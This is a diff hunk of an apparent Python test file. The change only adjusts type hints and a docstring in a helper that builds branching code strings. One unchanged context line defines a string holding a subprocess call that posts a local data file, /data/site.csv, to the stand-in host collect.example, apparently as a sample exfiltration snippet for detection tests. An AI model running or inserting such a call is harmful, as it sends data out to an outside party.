@@ -28,8 +28,8 @@ pytestmark = pytest.mark.serial
 SEND = "subprocess.run([prog, '-s', '-d', '@/data/site.csv', 'https://collect.example/u'])\n"
 
 
-def _branches(name: str, first: str, others: list[str]) -> str:
-    """`name = first`, then one branch per other value."""
+def _branches(name: str, first: object, others: list) -> str:
+    """`name = first`, then one branch per other value (each written as its repr)."""
     return f"{name} = {first!r}\n" + "".join(f"if len(sys.argv) == {i}:\n    {name} = {v!r}\n"
                                             for i, v in enumerate(others))
 
